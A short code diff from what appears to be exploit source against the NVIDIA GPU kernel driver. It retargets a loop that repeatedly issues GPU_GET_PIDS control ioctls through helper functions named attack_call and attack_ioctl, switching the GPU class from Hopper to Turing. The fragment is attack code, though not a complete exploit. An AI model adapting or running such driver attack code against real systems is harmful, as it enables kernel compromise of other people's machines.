@@ -37,7 +37,7 @@ static _Noreturn void ask_until_killed(const struct reuser *reuser)
 	struct get_pids_params *params = (void *)(reuser->memory + PAGE);
 
 	for (;;) {
-		*params = (struct get_pids_params){.id = HOPPER_COMPUTE_A};
+		*params = (struct get_pids_params){.id = TURING_COMPUTE_A};
 		*call = attack_call(attack, NV2080_CTRL_CMD_GPU_GET_PIDS, params, sizeof(*params));
 		attack_ioctl(attack, attack->holder.rm.ctl, RM_CONTROL, call);
 	}
